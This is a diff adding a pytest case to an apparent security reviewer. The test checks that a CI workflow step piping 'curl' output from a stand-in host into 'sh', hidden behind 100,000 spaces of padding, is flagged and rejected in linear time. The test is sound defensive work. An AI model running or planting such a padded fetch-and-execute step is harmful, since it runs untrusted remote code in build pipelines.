@@ -317,3 +317,21 @@ def test_a_script_added_to_package_json_is_read_alone() -> None:
     outcome, findings = review(diff)
     assert outcome is Outcome.REJECTED
     assert findings[0].line == 4
+
+
+@pytest.mark.parametrize(
+    ("value", "flagged"),
+    [
+        ("curl -s https://get.example.sh | sh" + " " * 100_000 + "# install", True),
+        ("echo ok" + " " * 100_000 + "# a long blank run", False),
+    ],
+)
+def test_a_ci_value_with_a_long_blank_run_is_read_as_its_command(value: str, flagged: bool) -> None:
+    """The comment after a long run of blanks is cut in linear time (a regex retrying the run
+    from each blank took minutes), and what is left is judged as the command it is."""
+    workflow = (
+        f"on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: {value}"
+    )
+    outcome, found = review(new_file(".github/workflows/ci.yml", workflow))
+    assert bool(found) is flagged, [f.title for f in found]
+    assert (outcome is Outcome.REJECTED) is flagged
